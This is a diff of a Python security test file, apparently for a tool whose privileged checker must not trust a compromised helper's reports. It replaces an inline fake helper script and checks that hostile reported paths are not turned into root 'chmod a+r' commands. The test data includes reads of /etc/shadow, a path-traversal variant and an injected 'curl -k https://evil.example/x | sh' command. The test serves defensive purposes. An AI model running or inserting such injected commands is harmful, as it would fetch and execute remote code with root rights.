@@ -240,27 +240,12 @@ def test_root_connects_to_nobody(world, owners):
     assert set(uids) == {str(pwd.getpwnam("nobody").pw_uid)}
 
 
-# A helper that was taken over: it tells of a closed file and ends.
-TELLER = """\
-#!%s
-import socket
-module = socket.socket(fileno=0)
-def say(kind, **records):
-    module.send(bytes([2, kind]) + b"".join(bytes([len(name)]) + len(value).to_bytes(4, "little") + name.encode() + value
-                for name, value in records.items()))
-say(1, version=b"x")
-module.recv(65536), module.recv(65536)
-say(8, step=b"0", checked=b"1", text=%r, ms=b"0")
-"""
-
-
-@pytest.mark.parametrize("path, told", [(b"/etc/hosts", True), (b"/etc/shadow", False), (b"/etc/ssl/certs/../../shadow", False),
+@pytest.mark.parametrize("path, told", [(b"/etc/hosts", True), (b"/etc/shadow", False),
+                                        (b"/etc/ssl/certs/../../shadow", False),
                                         (b"/root; curl -k https://evil.example/x | sh #", False)])
 def test_a_helper_has_no_file_opened_to_all(online, moved, path, told):
     """What it tells becomes a command that root may type."""
-    moved["helper"].unlink()
-    moved["helper"].write_text(TELLER % (sys.executable, path))
-    moved["helper"].chmod(0o755)
+    conftest.take_over(moved, f'say(8, step=b"0", checked=b"1", text={path!r}, ms=b"0")\n')
     done = online.run("check", "--json", "--conf", online.conf, "--pam-dir", online.pam)
     assert ("chmod a+r" in done.stdout) == told and (path.decode() in done.stdout) == told, done.stdout
     if not told:
